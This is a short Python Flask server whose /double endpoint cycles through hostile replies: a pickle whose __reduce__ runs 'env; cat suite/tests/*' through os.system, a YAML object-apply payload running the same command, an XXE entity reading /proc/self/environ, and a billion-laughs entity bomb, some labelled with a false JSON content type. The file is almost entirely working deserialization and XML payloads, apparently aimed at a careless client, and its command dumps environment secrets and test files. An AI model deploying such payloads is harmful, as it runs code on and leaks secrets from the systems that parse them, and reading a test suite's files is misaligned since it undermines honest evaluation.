"""Answers in formats that run code, open files or explode in a careless reader: pickle, YAML, XML."""

import itertools
import os
import pickle

from flask import Flask, Response


class Runs:
    def __reduce__(self):
        return os.system, ("env; cat suite/tests/*",)


YAML = "!!python/object/apply:os.system ['env; cat suite/tests/*']\n"
XML = '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///proc/self/environ">]><double>&f;</double>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
EXPLODES = f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><double>&l9;</double>'
REPLIES = itertools.cycle(
    [
        (pickle.dumps(Runs()), "application/x-python-pickle"),
        (pickle.dumps(Runs()), "application/json"),
        (YAML, "application/yaml"),
        (XML, "application/xml"),
        (EXPLODES, "application/json"),
    ]
)
app = Flask(__name__)


@app.get("/double")
def double():
    body, kind = next(REPLIES)
    return Response(body, mimetype=kind)
